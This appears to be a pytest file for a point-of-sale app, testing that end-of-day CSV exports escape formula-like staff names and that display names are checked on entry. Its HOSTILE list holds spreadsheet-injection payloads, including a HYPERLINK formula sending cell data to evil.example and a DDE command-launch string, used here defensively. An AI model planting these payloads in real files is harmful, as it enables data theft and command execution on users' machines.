"""No CSV the app writes carries a formula: a staff display name such as =HYPERLINK(...) that
reached the database (synced from another desk, or typed before names were checked) lands in the
end-of-day CSV as text, and the display name is refused where it is entered."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from oncopos.adapters.db.models.people import Staff
from oncopos.domain.csv_cells import safe_cell
from oncopos.domain.errors import InvalidInput
from oncopos.domain.staff import validate_display_name
from oncopos.services.end_of_day_export import report_csv
from tests.integration.end_of_day_helpers import DAY, LUC, MANAGER, MONA, Day, known_day, local

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"Luc")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1")


@pytest.mark.parametrize("name", HOSTILE[:2])
def test_a_formula_staff_name_is_text_in_the_end_of_day_csv(engine: Engine, tmp_path: Path, name: str) -> None:
    day = Day(engine, tmp_path / "documents")
    known_day(day)
    day.clock.now = local(DAY + timedelta(days=1), 9)
    with day.factory() as s, s.begin():
        s.execute(sa.update(Staff).where(Staff.id == LUC).values(display_name=name))
        s.execute(sa.update(Staff).where(Staff.id == MONA).values(display_name="@Mona"))
    rows = list(csv.DictReader(io.StringIO(report_csv(day.eod.report(MANAGER, DAY)))))
    staff = {row["staff"] for row in rows}
    assert "'" + name in staff and "'@Mona" in staff
    for row in rows:
        for column, cell in row.items():
            if column in ("subtotal", "gst", "hst", "pst", "rst", "qst", "tax", "total"):
                float(cell)  # amounts stay numbers, refunds negative
            else:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert any(row["total"].startswith("-") for row in rows if row["type"] == "refund")


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_start_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-120.00", "0", "1234.50", "-5"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert safe_cell(number) == number


@pytest.mark.parametrize("name", [*HOSTILE[:4], "Rita\u202eArgeR", "Luc\x00Tremblay", "Luc\x1b[31m", "x", "L" * 121])
def test_display_names_are_checked_where_they_are_entered(name: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        validate_display_name(name)
    assert caught.value.field == "display_name"


@pytest.mark.parametrize(("typed", "kept"), [("  Émilie   Bérubé ", "Émilie Bérubé"), ("Jean-Luc O'Neil", "Jean-Luc O'Neil"),
                                             ("Ada\tAdmin", "Ada Admin")])
def test_ordinary_display_names_are_kept(typed: str, kept: str) -> None:
    assert validate_display_name(typed) == kept
